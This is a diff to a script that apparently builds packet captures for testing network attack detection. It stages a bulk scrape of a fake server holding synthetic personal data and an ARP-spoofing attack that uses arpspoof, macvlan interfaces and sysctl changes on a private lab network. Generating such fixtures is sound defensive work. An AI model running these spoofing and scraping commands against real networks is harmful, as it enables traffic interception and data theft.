@@ -216,16 +216,17 @@ try {
       if(p.pathname==='/page')return r.end(JSON.stringify(Array.from({length:8},(_,i)=>({name:'李四',id:id(page*8+i)}))));
       r.end(JSON.stringify({phones:Array.from({length:60},(_,i)=>'1380013'+String(1000+i*37)),products:Array.from({length:80},(_,i)=>String(690123456789012345n+BigInt(i*1237))),wrong:Array.from({length:40},(_,i)=>id(i,true)),digest:'a3f5'.repeat(16),time:Array.from({length:40},(_,i)=>1569888000000+i*86400000)}))}).listen(8090,'${VICTIM}')`;
   rig.victim(...node(people));
-  await sleep(400);
+  await sleep(1500);
   await make('personal-data-leak/id-list.pcap', () => attack('curl', '-sS', '-o', '/dev/null', `http://${VICTIM}:8090/all`));
   await make('personal-data-leak/by-pages.pcap', () => attack('curl', '-sS', ...Array.from({ length: 30 }, (_, i) => ['-o', '/dev/null', `http://${VICTIM}:8090/page?page=${i}`]).flat()));
   await make('personal-data-leak/miss-phone-list.pcap', () => attack('curl', '-sS', '-o', '/dev/null', `http://${VICTIM}:8090/phones`));
 
   // Neighbours, fingerprints, zones, volume, lists, many attempts.
   await make('arp-spoofing/arpspoof.pcap', async () => {
-    await vsh(`ping -c 2 -i 0.2 ${CLIENT}`);
-    // A second station on the wire, with a MAC address of its own.
-    await sh(`ip link add mv0 link eth0 type macvlan mode private; ip addr add 10.42.3.99/32 dev mv0; ip link set mv0 up; arping -q -c 1 -I mv0 -S 10.42.3.99 ${VICTIM} 2>/dev/null; timeout 9 arpspoof -i mv0 -t ${VICTIM} ${CLIENT}; ip link del mv0`);
+    // The gateway is a station of its own on the wire, until arpspoof speaks for it.
+    await sh('sysctl -qw net.ipv4.conf.all.arp_ignore=1; ip link add mv0 link eth0 type macvlan mode bridge; ip addr add 10.42.1.254/32 dev mv0; ip link set mv0 up');
+    await vsh('ping -c 2 -i 0.3 -W 1 10.42.1.254');
+    await sh(`ip link del mv0; ping -c 1 -W 1 ${VICTIM}; timeout 9 arpspoof -i eth0 -t ${VICTIM} 10.42.1.254; sysctl -qw net.ipv4.conf.all.arp_ignore=0`);
     return {};
   }, 'arp');
   await make('arp-spoofing/miss-resolution.pcap', () => vsh(`for i in 1 2 3 4 5; do ip neigh flush all; ping -c 1 -W 1 ${CLIENT}; ping -c 1 -W 1 ${C2}; sleep 0.3; done; arping -q -U -c 3 -I eth0 ${VICTIM}`), 'arp');
